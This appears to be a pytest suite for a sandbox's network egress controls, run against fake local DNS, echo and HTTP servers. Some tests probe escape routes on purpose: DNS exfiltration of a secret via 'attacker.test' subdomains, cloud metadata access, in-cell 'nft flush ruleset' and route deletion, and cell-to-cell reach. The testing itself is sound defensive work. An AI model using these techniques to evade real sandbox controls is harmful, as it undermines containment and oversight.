"""Egress control (docs/egress.md): network policies enforced by the cell's
nftables rules, resolver and relay.

Inside a cell 127.0.0.0/8 is the cell's own loopback, so the fake upstreams
listen on addresses of the benchmarking range 198.18.0.0/15, added to the
host's lo for this module (and removed at its end, even after a failure;
an address left over by a crashed run is tolerated).  Traffic never leaves
the machine:

    198.18.0.53:53   a DNS server (UDP and TCP) for a small zone, which
                     records every query it receives
    198.18.0.10:7    TCP echo (and UDP echo, which records datagrams)
    198.18.0.10:8080 TCP echo (and UDP echo)
    198.18.0.10:80, 198.18.0.11:80
                     HTTP servers answering with the request's headers as JSON

Most behaviour is checked with `cell run --policy FILE` (no daemon); the API
parts (live policy changes, validation, audit, the decide webhook, the CLI
client) with one `cell serve` for the module.  Probes run inside the cell as
a Python program (PROBE) that prints one JSON result per probe.
"""
import json
import os
import random
import socket
import threading
import time
import uuid

import pytest

import daemon as dm
import netfake
from conftest import popen_cell, run_cell, stop_proc, wait_for
from daemon import uniq

NET = netfake.claim("198.18.0", __name__)
DNS_IP, ECHO_IP, OTHER_IP = NET + ".53", NET + ".10", NET + ".11"
ADDRS = (DNS_IP, ECHO_IP, OTHER_IP)
ZONE = {
    "allowed.test": {"A": [ECHO_IP], "AAAA": ["2001:db8::10"]},
    "other.test": {"A": [OTHER_IP]},
}
# The test's peers are addresses of this host (on lo): "host-self", which
# the resolver refuses to hand out (DNS rebinding) unless "rebind" names them,
# and which allow rules reach only by naming the address or the class.
REBIND = ["198.18.0.0/24"]
DNS_RULE = {"dns": {"upstreams": [DNS_IP], "rebind": REBIND}}
STRICT_DNS_RULE = {"dns": {"upstreams": [DNS_IP], "strict": True, "rebind": REBIND}}

# The program run inside cells: argv[1] is a JSON list of probes, each
# [kind, args...]; it prints a JSON list of results.  A TCP probe counts as
# "ok" only when the peer's answer arrived (the relay accepts every flow
# first, so a denial shows as a reset or an EOF after connect()).
PROBE = r'''
import errno, json, socket, subprocess, sys, time

def why(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    if isinstance(e, socket.gaierror):
        return "gaierror"
    n = getattr(e, "errno", None)
    return errno.errorcode.get(n, repr(e)) if n else type(e).__name__

def tcp(host, port, mode="echo", extra=None, timeout=4, family=0):
    if mode not in ("echo", "http"):
        mode, extra = "echo", mode        # ["tcp", host, port, "data to echo"]
    t0 = time.monotonic()
    r = {"ok": False}
    try:
        if family == 6:
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(timeout)
            s.connect((host, port))
        else:
            s = socket.create_connection((host, port), timeout=timeout)
    except Exception as e:
        r.update(stage="connect", err=why(e), ms=int((time.monotonic() - t0) * 1000))
        return r
    try:
        if mode == "http":
            hdrs = {"Host": host, "Connection": "close"}
            hdrs.update(extra or {})
            req = "GET /probe HTTP/1.0\r\n" + "".join("%s: %s\r\n" % kv for kv in hdrs.items()) + "\r\n"
            s.sendall(req.encode())
            buf = b""
            while True:
                d = s.recv(65536)
                if not d:
                    break
                buf += d
            if not buf:
                r.update(stage="io", err="eof")
            else:
                head, _, body = buf.partition(b"\r\n\r\n")
                r.update(ok=True, status=int(head.split()[1]), body=json.loads(body))
        else:
            data = (extra or "ping-%d" % port).encode()
            s.sendall(data)
            buf = b""
            while len(buf) < len(data):
                d = s.recv(65536)
                if not d:
                    break
                buf += d
            if buf:
                r.update(ok=buf == data, data=buf.decode("latin-1"))
            else:
                r.update(stage="io", err="eof")
    except Exception as e:
        r.update(stage="io", err=why(e))
    finally:
        s.close()
    r["ms"] = int((time.monotonic() - t0) * 1000)
    return r

def dnsq(name, qtype="A", transport="udp", server="198.18.0.53"):
    import dns.message, dns.query, dns.rcode, dns.rdatatype
    q = dns.message.make_query(name, qtype)
    try:
        fn = dns.query.tcp if transport == "tcp" else dns.query.udp
        a = fn(q, server, timeout=3)
    except Exception as e:
        return {"err": why(e)}
    addrs = [rd.to_text() for rr in a.answer for rd in rr if rr.rdtype in (dns.rdatatype.A, dns.rdatatype.AAAA)]
    return {"rcode": dns.rcode.to_text(a.rcode()), "addrs": addrs}

def udp(host, port, data="udp-ping", n=1, timeout=1.0):
    # n datagrams from one socket (one association), each awaiting its echo.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    r = {"ok": False, "got": 0}
    try:
        for i in range(n):
            s.sendto(data.encode(), (host, port))
            d, frm = s.recvfrom(65536)
            r.update(got=i + 1, data=d.decode("latin-1"), frm="%s:%d" % frm)
        r["ok"] = r["got"] == n
    except Exception as e:
        r["err"] = why(e)
    finally:
        s.close()
    return r

def gai(name, family=4):
    fam = socket.AF_INET6 if family == 6 else socket.AF_INET
    try:
        return {"addrs": sorted({ai[4][0] for ai in socket.getaddrinfo(name, 80, fam, socket.SOCK_STREAM)})}
    except Exception as e:
        return {"err": why(e)}

def cmd(*argv):
    try:
        p = subprocess.run(list(argv), capture_output=True, text=True, timeout=10)
        return {"rc": p.returncode, "out": p.stdout, "err": p.stderr}
    except Exception as e:
        return {"rc": -1, "err": why(e)}

out = []
for probe in json.loads(sys.argv[1]):
    kind, args = probe[0], probe[1:]
    kw = args.pop() if args and isinstance(args[-1], dict) else {}
    out.append({"tcp": tcp, "dns": dnsq, "udp": udp, "gai": gai, "cmd": cmd}[kind](*args, **kw))
print(json.dumps(out))
'''


# ---- the fake network -----------------------------------------------------------------


class Net(netfake.Net):
    def __init__(self):
        super().__init__(ADDRS)
        self.zone, self.udp_echo = netfake.FakeDNS(ZONE), netfake.UdpEcho()

    def up(self):
        super().up()
        self.serve(*self.zone.servers(DNS_IP),
                   netfake.TCPServer((ECHO_IP, 7), netfake.Echo),
                   netfake.TCPServer((ECHO_IP, 8080), netfake.Echo),
                   netfake.UDPServer((ECHO_IP, 7), self.udp_echo.handler),
                   netfake.UDPServer((ECHO_IP, 8080), self.udp_echo.handler),
                   netfake.HTTPServer((ECHO_IP, 80), netfake.HeadersHTTP),
                   netfake.HTTPServer((OTHER_IP, 80), netfake.HeadersHTTP))
        return self


@pytest.fixture(scope="module")
def net(cell):
    if netfake.require_dns() is None:
        pytest.skip("dnspython (python3-dnspython) is needed for the fake DNS server")
    n = Net()
    try:
        n.up()
        # The fake network works from the host: failures in cells are the policy's.
        with socket.create_connection((ECHO_IP, 7), timeout=2) as s:
            s.sendall(b"x")
            assert s.recv(1) == b"x"
        yield n
    finally:
        n.down()


# ---- running probes ---------------------------------------------------------------------


def write_policy(dirpath, policy, name=None):
    path = os.path.join(str(dirpath), name or "policy-%s.json" % uuid.uuid4().hex[:8])
    with open(path, "w") as f:
        f.write(policy if isinstance(policy, str) else json.dumps(policy))
    return path


def probe(run, tmp_path, policy, probes, timeout=60):
    """Run PROBE in a new cell (`cell run`, with --policy unless policy is None)."""
    args = ["run"]
    if policy is not None:
        args += ["--policy", write_policy(tmp_path, policy)]
    args += ["--", "/usr/bin/python3", "-c", PROBE, json.dumps(probes)]
    r = run(args, timeout=timeout)
    assert r.returncode == 0, (r.returncode, r.stdout, r.stderr)
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert len(out) == len(probes)
    return out


def allowed(r):
    return r.get("ok") is True


def denied(r, quick=True):
    """A refused flow: no answer, and (quick) no waiting for a timeout."""
    if r.get("ok") or r.get("err") == "timeout":
        return False
    return not quick or r.get("ms", 0) < 2000


# ---- cell run: no policy, empty policy -------------------------------------------------


def test_no_policy_no_network(run, tmp_path, net):
    before = len(net.zone.queries())
    r = probe(run, tmp_path, None, [["tcp", ECHO_IP, 7], ["dns", "allowed.test"], ["cmd", "getent", "hosts", "allowed.test"],
                                    ["cmd", "ip", "-4", "route", "show"]])
    assert not r[0]["ok"] and r[0]["stage"] == "connect" and r[0]["err"] in ("ENETUNREACH", "EHOSTUNREACH"), r[0]
    assert "err" in r[1], r[1]
    assert r[2]["rc"] != 0 and ECHO_IP not in r[2]["out"], r[2]
    assert r[3]["out"].strip() == "", r[3]     # no route at all
    assert len(net.zone.queries()) == before


def test_empty_rules_deny_everything(run, tmp_path, net):
    before = len(net.zone.queries())
    r = probe(run, tmp_path, {"rules": []},
              [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 80, "http"], ["tcp", "203.0.113.9", 443],
               ["dns", "allowed.test"], ["dns", "allowed.test", "A", "tcp"], ["cmd", "getent", "hosts", "allowed.test"]])
    for x in r[:3]:
        assert denied(x), r
    assert r[3] == {"rcode": "REFUSED", "addrs": []}, r[3]
    assert r[4] == {"rcode": "REFUSED", "addrs": []}, r[4]
    assert r[5]["rc"] != 0, r[5]
    assert len(net.zone.queries()) == before, net.zone.queries()[before:]


# ---- DNS ---------------------------------------------------------------------------------


def test_dns_rule_enables_resolution(run, tmp_path, net):
    r = probe(run, tmp_path, {"rules": [DNS_RULE]},
              [["cmd", "getent", "hosts", "allowed.test"], ["dns", "other.test", "A", "tcp"], ["dns", "nope.test"]])
    assert r[0]["rc"] == 0 and r[0]["out"].split()[:2] == [ECHO_IP, "allowed.test"], r[0]
    assert r[1] == {"rcode": "NOERROR", "addrs": [OTHER_IP]}, r[1]
    assert r[2] == {"rcode": "NXDOMAIN", "addrs": []}, r[2]
    assert {"allowed.test", "other.test", "nope.test"} <= set(net.zone.names())


def test_dns_denied_without_dns_rule(run, tmp_path, net):
    before = len(net.zone.queries())
    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP}}]},
              [["cmd", "getent", "hosts", "allowed.test"], ["dns", "allowed.test"], ["tcp", ECHO_IP, 7]])
    assert r[0]["rc"] != 0 and ECHO_IP not in r[0]["out"], r[0]
    assert r[1]["rcode"] == "REFUSED", r[1]
    assert allowed(r[2]), r[2]             # the policy itself works
    assert len(net.zone.queries()) == before


def test_strict_dns_blocks_exfiltration(run, tmp_path, net):
    secret = uniq("secret-data")
    policy = {"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test", "ports": [7]}}]}
    r = probe(run, tmp_path, policy,
              [["dns", "allowed.test"], ["dns", secret + ".attacker.test"],
               ["dns", secret + ".attacker.test", "TXT", "tcp"], ["dns", "other.test"],
               ["cmd", "getent", "hosts", secret + ".attacker.test"]])
    assert r[0] == {"rcode": "NOERROR", "addrs": [ECHO_IP]}, r[0]
    assert r[1] == {"rcode": "NXDOMAIN", "addrs": []}, r[1]
    assert r[2] == {"rcode": "NXDOMAIN", "addrs": []}, r[2]
    assert r[3] == {"rcode": "NXDOMAIN", "addrs": []}, r[3]
    assert r[4]["rc"] != 0, r[4]
    names = net.zone.names()
    assert "allowed.test" in names
    assert not [n for n in names if secret in n], "a strict cell's query reached the server: %s" % names


def test_non_strict_dns_forwards_any_name(run, tmp_path, net):
    # The control for the strict test: without strict, the server does see it.
    secret = uniq("visible")
    r = probe(run, tmp_path, {"rules": [DNS_RULE]}, [["dns", secret + ".attacker.test"]])
    assert r[0] == {"rcode": "NXDOMAIN", "addrs": []}, r[0]
    assert secret + ".attacker.test" in net.zone.names()


# ---- TCP by address, host rules --------------------------------------------------------


def test_tcp_rule_by_ip_and_port(run, tmp_path, net):
    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP + "/32", "ports": [7, "80-81"]}}]},
              [["tcp", ECHO_IP, 7, "hello"], ["tcp", ECHO_IP, 8080], ["tcp", ECHO_IP, 80, "http"],
               ["tcp", OTHER_IP, 80, "http"]])
    assert allowed(r[0]) and r[0]["data"] == "hello", r[0]
    assert denied(r[1]), r[1]
    assert allowed(r[2]) and r[2]["body"]["server"] == ECHO_IP, r[2]
    assert denied(r[3]), r[3]


def test_host_rule_by_name(run, tmp_path, net):
    policy = {"rules": [DNS_RULE, {"host": {"name": "allowed.test", "ports": [7, 80]}}]}
    r = probe(run, tmp_path, policy,
              [["tcp", "allowed.test", 7, "by-name"], ["tcp", "allowed.test", 8080], ["tcp", "allowed.test", 80, "http"]])
    assert allowed(r[0]) and r[0]["data"] == "by-name", r[0]
    assert denied(r[1]), r[1]              # a port the rule does not list
    # The relay is transparent: the request arrives as the cell sent it.
    assert allowed(r[2]) and r[2]["body"]["headers"]["host"] == "allowed.test", r[2]


def test_host_rule_needs_the_cells_own_dns_answer(run, tmp_path, net):
    policy = {"rules": [DNS_RULE, {"host": {"name": "allowed.test", "ports": [7, 80]}}]}
    # A fresh cell that never asked: the same address by IP is denied, and a
    # Host header naming the allowed host does not count either.
    r = probe(run, tmp_path, policy,
              [["tcp", ECHO_IP, 7], ["tcp", OTHER_IP, 80, "http", {"extra": {"Host": "allowed.test"}}],
               ["dns", "other.test"], ["tcp", OTHER_IP, 80, "http", {"extra": {"Host": "allowed.test"}}]])
    assert denied(r[0]), r[0]
    assert denied(r[1]), r[1]
    # other.test's answer pins 198.18.0.11 to other.test, not to allowed.test.
    assert r[2]["addrs"] == [OTHER_IP], r[2]
    assert denied(r[3]), r[3]


def test_host_rule_glob(run, tmp_path, net):
    policy = {"rules": [DNS_RULE, {"host": {"name": "*.test", "ports": 80}}]}
    r = probe(run, tmp_path, policy,
              [["tcp", "other.test", 80, "http"], ["tcp", "allowed.test", 80, "http"], ["tcp", "allowed.test", 7]])
    assert allowed(r[0]) and r[0]["body"]["server"] == OTHER_IP and r[0]["body"]["headers"]["host"] == "other.test", r[0]
    assert allowed(r[1]) and r[1]["body"]["server"] == ECHO_IP, r[1]
    assert denied(r[2]), r[2]


def test_rule_order_first_match_wins(run, tmp_path, net):
    deny_first = {"rules": [{"action": "deny", "tcp": {"to": ECHO_IP, "ports": 8080}},
                            {"tcp": {"to": "host-self"}}]}
    r = probe(run, tmp_path, deny_first, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert allowed(r[0]) and denied(r[1]), r
    allow_first = {"rules": list(reversed(deny_first["rules"]))}
    r = probe(run, tmp_path, allow_first, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert allowed(r[0]) and allowed(r[1]), r


# ---- endpoint classes ----------------------------------------------------------------------


def test_link_local_metadata_denied_with_allow_public(run, tmp_path, net):
    # "public" does not include link-local; an explicit deny before a
    # catch-all allow wins too.  Quick: the relay never tried to connect.
    for policy in ({"rules": [{"tcp": {"to": "public"}}, {"tcp": {"to": ECHO_IP, "ports": 7}}]},
                   {"rules": [{"action": "deny", "ip": {"to": ["link-local", "private", "loopback"]}},
                              {"ip": {"to": "public"}}, {"tcp": {"to": ["0.0.0.0/0", "host-self"]}}]}):
        r = probe(run, tmp_path, policy, [["tcp", "169.254.169.254", 80, "http"], ["tcp", ECHO_IP, 7]])
        assert denied(r[0]), (policy, r[0])
        assert allowed(r[1]), (policy, r[1])


def test_class_rules(run, tmp_path, net):
    # 198.18.0.0/15 is "reserved", not "private".
    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "private"}}, {"tcp": {"to": "host-self"}}]},
              [["tcp", ECHO_IP, 7], ["tcp", "10.0.0.1", 80], ["tcp", "192.168.0.1", 80]])
    assert allowed(r[0]), r[0]
    assert denied(r[1]) and denied(r[2]), r
    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {"to": "reserved"}}, {"tcp": {"to": "host-self"}}]},
              [["tcp", ECHO_IP, 7]])
    assert denied(r[0]), r[0]


def test_host_self_only_when_named(run, tmp_path, net):
    # ECHO_IP is an address of this host: a catch-all, a class that contains
    # it ("reserved") or a CIDR around it does not reach it; naming the class
    # "host-self" or the exact address does.  A deny still matches as usual.
    probes = [["tcp", ECHO_IP, 7]]
    for policy in ({"rules": [{"tcp": {}}]}, {"rules": [{"tcp": {"to": "reserved"}}]},
                   {"rules": [{"ip": {"to": ["198.18.0.0/15", "0.0.0.0/0"]}}]},
                   {"rules": [{"decide": {"url": "http://127.0.0.1:9/none", "to": "198.18.0.0/24"}}]}):
        r = probe(run, tmp_path, policy, probes)
        assert denied(r[0]), (policy, r[0])
    for policy in ({"rules": [{"tcp": {"to": "host-self"}}]}, {"rules": [{"tcp": {"to": ECHO_IP + "/32"}}]},
                   {"rules": [{"ip": {"to": [ECHO_IP]}}]}):
        r = probe(run, tmp_path, policy, probes)
        assert allowed(r[0]), (policy, r[0])
    r = probe(run, tmp_path, {"rules": [{"action": "deny", "tcp": {}}, {"tcp": {"to": "host-self"}}]}, probes)
    assert denied(r[0]), r[0]


def test_dns_rebinding_refused(run, tmp_path, net):
    # allowed.test answers ECHO_IP, an address of this host: without
    # "rebind" the resolver withholds the answer (REFUSED), pins nothing,
    # and a host rule for the name cannot reach the host.
    policy = {"rules": [{"dns": {"upstreams": [DNS_IP]}}, {"host": {"name": "allowed.test"}}]}
    r = probe(run, tmp_path, policy, [["dns", "allowed.test"], ["dns", "allowed.test", "A", "tcp"],
                                       ["cmd", "getent", "hosts", "allowed.test"], ["tcp", ECHO_IP, 7]])
    assert r[0] == {"rcode": "REFUSED", "addrs": []} and r[1] == {"rcode": "REFUSED", "addrs": []}, r
    assert r[2]["rc"] != 0, r[2]
    assert denied(r[3]), r[3]
    # "rebind" naming another range does not accept it either.
    policy["rules"][0]["dns"]["rebind"] = ["10.0.0.0/8"]
    r = probe(run, tmp_path, policy, [["dns", "allowed.test"]])
    assert r[0] == {"rcode": "REFUSED", "addrs": []}, r


# ---- what never gets out -------------------------------------------------------------------


def test_udp_without_rule_is_dropped(run, tmp_path, net):
    # From the host the UDP echo answers; from a cell whose rules allow
    # only TCP it never hears a thing.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"host", (ECHO_IP, 7))
        assert s.recvfrom(10)[0] == b"host"
    before = net.udp_echo.count
    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP}}]},
              [["udp", ECHO_IP, 7], ["tcp", ECHO_IP, 7]])
    assert not r[0]["ok"], r[0]
    assert allowed(r[1]), r[1]
    assert net.udp_echo.count == before


# ---- UDP ------------------------------------------------------------------------------------


def test_udp_rule_relays_datagrams(run, tmp_path, net):
    ok, other_port, other_ip = uniq("u7"), uniq("u8080"), uniq("u11")
    r = probe(run, tmp_path, {"rules": [{"udp": {"to": ECHO_IP, "ports": 7}}]},
              [["udp", ECHO_IP, 7, {"data": ok, "n": 3}], ["udp", ECHO_IP, 8080, {"data": other_port}],
               ["udp", OTHER_IP, 7, {"data": other_ip}], ["tcp", ECHO_IP, 7]])
    # The reply comes from the address the cell sent to, as without a relay.
    assert r[0]["ok"] and r[0]["data"] == ok and r[0]["frm"] == ECHO_IP + ":7", r[0]
    assert net.udp_echo.got(ok) == [ECHO_IP + ":7"] * 3
    assert not r[1]["ok"] and r[1]["err"] == "timeout", r[1]
    assert not r[2]["ok"], r[2]
    assert net.udp_echo.got(other_port) == [] and net.udp_echo.got(other_ip) == []
    assert denied(r[3]), r[3]              # a udp rule says nothing about TCP


def test_udp_rule_order_and_ip_rules(run, tmp_path, net):
    deny_first = {"rules": [{"action": "deny", "udp": {"to": ECHO_IP, "ports": 8080}},
                            {"udp": {"to": "host-self"}}]}
    r = probe(run, tmp_path, deny_first, [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080]])
    assert r[0]["ok"] and not r[1]["ok"], r
    r = probe(run, tmp_path, {"rules": list(reversed(deny_first["rules"]))},
              [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080]])
    assert r[0]["ok"] and r[1]["ok"], r
    # "ip" covers both transports; a "tcp" rule does not cover UDP.
    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 8080}}, {"ip": {"to": ECHO_IP, "ports": 7}}]},
              [["udp", ECHO_IP, 7], ["tcp", ECHO_IP, 7], ["udp", ECHO_IP, 8080], ["tcp", ECHO_IP, 8080]])
    assert r[0]["ok"] and allowed(r[1]), r
    assert not r[2]["ok"] and allowed(r[3]), r


def test_udp_rules_do_not_bypass_the_resolver(run, tmp_path, net):
    # DNS is redirected before UDP is relayed: allowing port 53 (or all UDP)
    # still sends every query to the cell's resolver.
    secret = uniq("udp-exfil")
    for policy in ({"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {"to": "host-self"}}]},
                   {"rules": [STRICT_DNS_RULE, {"host": {"name": "allowed.test"}}, {"udp": {"ports": 53}}]}):
        r = probe(run, tmp_path, policy,
                  [["dns", secret + ".attacker.test"], ["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
        assert r[0] == {"rcode": "NXDOMAIN", "addrs": []}, (policy, r[0])
        assert r[1] == {"rcode": "NOERROR", "addrs": [ECHO_IP]}, (policy, r[1])
    before = len(net.zone.queries())
    r = probe(run, tmp_path, {"rules": [{"udp": {"to": "host-self"}}]}, [["dns", "allowed.test"], ["udp", ECHO_IP, 7]])
    assert r[0] == {"rcode": "REFUSED", "addrs": []} and r[1]["ok"], r
    assert len(net.zone.queries()) == before
    assert not [n for n in net.zone.names() if secret in n], net.zone.names()


def test_ipv6_denied(run, tmp_path, net):
    policy = {"rules": [DNS_RULE, {"ip": {}}]}
    r = probe(run, tmp_path, policy,
              [["tcp", "2001:db8::1", 80, "echo", {"family": 6}], ["tcp", "2001:db8::10", 7, "echo", {"family": 6}],
               ["dns", "allowed.test", "AAAA"], ["dns", "allowed.test", "AAAA", "tcp"], ["gai", "allowed.test", 6],
               ["gai", "allowed.test", 4]])
    assert not r[0]["ok"] and r[0].get("stage") == "connect", r[0]
    assert not r[1]["ok"] and r[1].get("stage") == "connect", r[1]
    assert r[2] == {"rcode": "NOERROR", "addrs": []}, r[2]
    assert r[3] == {"rcode": "NOERROR", "addrs": []}, r[3]
    assert "err" in r[4] or not r[4]["addrs"], r[4]
    assert r[5] == {"addrs": [ECHO_IP]}, r[5]
    # The zone has an AAAA record; no AAAA query was ever forwarded to it.
    assert not [q for q in net.zone.queries() if q[1] == "AAAA"], net.zone.queries()


def test_relay_port_dialed_directly(run, tmp_path, net):
    r = probe(run, tmp_path, {"rules": [{"tcp": {"to": ["0.0.0.0/0", "host-self"]}}, {"ip": {}}]},
              [["tcp", "127.0.0.1", 15001], ["tcp", "127.0.0.1", 15001, "http"], ["tcp", ECHO_IP, 7]])
    assert denied(r[0]) and denied(r[1]), r
    assert allowed(r[2]), r[2]


def test_cell_cannot_change_its_rules(run, tmp_path, net):
    for tool in ("nft", "ip"):
        if not any(os.access(os.path.join(d, tool), os.X_OK) for d in ("/usr/sbin", "/sbin", "/usr/bin")):
            pytest.skip("%s is not installed on the host" % tool)
    policy = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}
    r = probe(run, tmp_path, policy,
              [["cmd", "id", "-u"], ["cmd", "nft", "list", "ruleset"], ["cmd", "nft", "flush", "ruleset"],
               ["cmd", "nft", "delete", "table", "inet", "cell"], ["cmd", "ip", "route", "del", "default"],
               ["cmd", "ip", "route", "add", "198.18.0.0/24", "dev", "lo"], ["cmd", "ip", "link", "set", "lo", "down"],
               ["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert r[0]["out"].strip() == "0", r[0]   # root in the cell, still no CAP_NET_ADMIN over its netns
    for i in range(1, 7):
        assert r[i]["rc"] != 0, r[i]
    assert allowed(r[7]) and denied(r[8]), r[7:]


# ---- the kernel fast path (veth + NFQUEUE decision) ------------------------------------------

LISTENER = r"""
import socket, subprocess, sys, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", 9999)); l.listen(8); l.settimeout(float(sys.argv[1]))
ip = subprocess.run(["ip", "-4", "-o", "addr", "show", "eth0"], capture_output=True, text=True).stdout.split()
print("ADDR", ip[3].split("/")[0] if len(ip) > 3 else "none", flush=True)
try:
    c, a = l.accept(); c.sendall(b"reached"); print("ACCEPTED", a, flush=True)
except OSError:
    print("NOBODY", flush=True)
"""


def test_fast_path_is_a_veth_the_cell_cannot_misuse(run, tmp_path, net):
    """An allowed flow leaves by the veth; nothing else can: not ICMP, not
    UDP, not IPv6, not a denied port; and the cell cannot change the route."""
    policy = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}
    r = probe(run, tmp_path, policy,
              [["cmd", "ip", "-4", "route", "show"], ["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080],
               ["cmd", "ping", "-c", "1", "-W", "1", ECHO_IP], ["udp", ECHO_IP, 7],
               ["cmd", "ip", "route", "replace", "default", "dev", "lo"], ["cmd", "ip", "link", "set", "eth0", "down"],
               ["cmd", "sysctl", "-w", "net.ipv6.conf.eth0.disable_ipv6=0"], ["tcp", ECHO_IP, 7]])
    assert r[0]["out"].startswith("default via 10.213.") and "dev eth0" in r[0]["out"], r[0]
    assert allowed(r[1]) and denied(r[2]), r[1:3]
    assert r[3]["rc"] != 0, r[3]
    assert not r[4]["ok"], r[4]
    for x in r[5:8]:
        assert x["rc"] != 0, x
    assert allowed(r[8]), r[8]


def test_fast_path_cells_do_not_reach_each_other(run, tmp_path, net, state):
    """Cell A may reach all of 10.0.0.0/8 by its policy; cell B (another
    fast-path cell) listens on its veth address: A still gets nothing."""
    b = popen_cell(state, ["run", "--policy", write_policy(tmp_path, {"rules": []}), "--",
                              "/usr/bin/python3", "-c", LISTENER, "20"])
    try:
        line = b.stdout.readline().split()
        assert line[:1] == ["ADDR"] and line[1].startswith("10.213."), line
        r = probe(run, tmp_path, {"rules": [{"tcp": {"to": "10.0.0.0/8"}}]},
                  [["tcp", line[1], 9999, "echo", {"timeout": 12}]], timeout=90)
        assert not r[0]["ok"], r
        b.terminate()
        rest, _ = b.communicate(timeout=15)
        assert "ACCEPTED" not in rest, "cell B was reached: " + rest
    finally:
        stop_proc(b)


def test_bad_egress_subnet_is_an_error(run, tmp_path, net):
    """A mistyped CELL_EGRESS_SUBNET fails the boot with a message naming it,
    rather than quietly dropping the fast path."""
    policy = write_policy(tmp_path, {"rules": []})
    for bad in ("10.213.0.0", "10.213.0.0/30", "not-an-address/16", "10.213.0.0/7"):
        r = run(["run", "--policy", policy, "--", "true"], env=dict(os.environ, CELL_EGRESS_SUBNET=bad))
        assert r.returncode == 125 and "CELL_EGRESS_SUBNET=%s" % bad in r.stderr, (bad, r.returncode, r.stderr)


def test_fast_path_off_keeps_the_relay(run, tmp_path, net):
    """CELL_EGRESS_FAST=0: no veth, the default route over lo, flows relayed."""
    env = dict(os.environ, CELL_EGRESS_FAST="0")
    args = ["run", "--policy", write_policy(tmp_path, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}), "--",
            "/usr/bin/python3", "-c", PROBE,
            json.dumps([["cmd", "ip", "-4", "route", "show"], ["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])]
    r = run(args, env=env)
    assert r.returncode == 0, (r.stdout, r.stderr)
    out = json.loads(r.stdout.strip().splitlines()[-1])
    assert "dev lo" in out[0]["out"] and "eth0" not in out[0]["out"], out[0]
    assert allowed(out[1]) and denied(out[2]), out


# ---- the daemon: policies over the API, audit, decide -------------------------------------


@pytest.fixture(scope="module")
def d(tmp_path_factory, net):
    yield from dm.serve(tmp_path_factory.mktemp("egress"))


def create_cell(admin, policy=None, expect=201):
    body = {"resources": {"memory": "128M"}}
    if policy is not None:
        body["policy"] = policy
    r = admin.post("/v1/cells", body)
    assert r.status == expect, r
    return r.body["id"] if expect == 201 else r


def cell_probe(admin, cid, probes):
    r = admin.post("/cells/%s/v1/processes/run" % cid,
                   {"command": "/usr/bin/python3", "args": ["-c", PROBE, json.dumps(probes)], "timeoutMs": 60000})
    assert r.status == 200 and r.body["exitCode"] == 0, r
    return json.loads(r.body["stdout"].strip().splitlines()[-1])


def net_records(client, cid, pred=lambda rec: True):
    r = client.get("/v1/audit", query={"kind": "net", "limit": 10000})
    assert r.status == 200, r
    return [x for x in r.body["records"] if x.get("cell") == cid and pred(x)]


def test_live_policy_update(admin, cells, net):
    p7 = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}
    p8080 = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 8080}}]}
    cid = create_cell(admin, p7)
    cells.append(cid)
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert allowed(r[0]) and denied(r[1]), r
    put = admin.put("/v1/cells/%s/policy" % cid, p8080)
    assert put.status == 200 and put.body["policyLive"] is True and put.body["policy"] == p8080, put
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert denied(r[0]) and allowed(r[1]), r
    # A rejected policy names the rule and changes nothing.
    bad = {"rules": [{"tcp": {"to": ECHO_IP}}, {"tcp": {"to": ECHO_IP, "ports": [7, 70000]}}]}
    dm.assert_problem(admin.put("/v1/cells/%s/policy" % cid, bad), 400, "invalid_request", "rules[1].tcp.ports")
    dm.assert_problem(admin.put("/v1/cells/%s/policy" % cid, {"rules": [{"bogus": {}}]}), 400, "invalid_request",
                      "rules[0]")
    dm.assert_problem(admin.put("/v1/cells/%s/policy" % cid, body="not json",
                                headers={"Content-Type": "application/json"}), 400)
    assert admin.get("/v1/cells/%s" % cid).body["policy"] == p8080
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert denied(r[0]) and allowed(r[1]), r


def test_policy_put_during_a_boot_is_applied(admin, cells, net):
    """A policy PUT that lands while the cell boots is stored before the
    boot has a handle to apply it to; the boot applies it before the cell
    is used, so the cell never runs with the policy it was replaced by."""
    p7 = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}
    p8080 = {"rules": [{"tcp": {"to": ECHO_IP, "ports": 8080}}]}
    cid = create_cell(admin, p7)
    cells.append(cid)
    rnd = random.Random(4)
    for i in range(6):
        assert admin.post("/v1/cells/%s/stop" % cid).status == 200
        want = p8080 if i % 2 == 0 else p7
        out = {}
